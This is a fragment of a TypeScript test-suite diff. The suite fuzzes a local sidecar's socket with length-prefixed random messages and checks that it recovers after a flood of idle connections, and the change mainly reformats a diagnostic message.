+          h.writeUInt32BE(n);
+          return Buffer.concat([h, Buffer.from(a)]);
+        }),
+      ),
+      { numRuns: 200, seed: SEED },
+    );
     let replies = 0;
     const badReplies: string[] = [];
     for (let i = 0; i < samples.length; i += 8) {
@@ -689,7 +1021,9 @@ describe('(d) raw socket abuse against a real sidecar', () => {
       }
     }
     const during = await ping(sc.socket);
-    t.diagnostic(`${conns.length} idle connections opened; a ping during the flood was ${during ? 'answered' : 'NOT answered (hooks fail open/closed until the idle timeout frees slots)'}`);
+    t.diagnostic(
+      `${conns.length} idle connections opened; a ping during the flood was ${during ? 'answered' : 'NOT answered (hooks fail open/closed until the idle timeout frees slots)'}`,
+    );
     await Promise.all(conns.map((c) => c.closed));
     assert.ok(await ping(sc.socket), 'answers again once the idle connections are closed');
   });
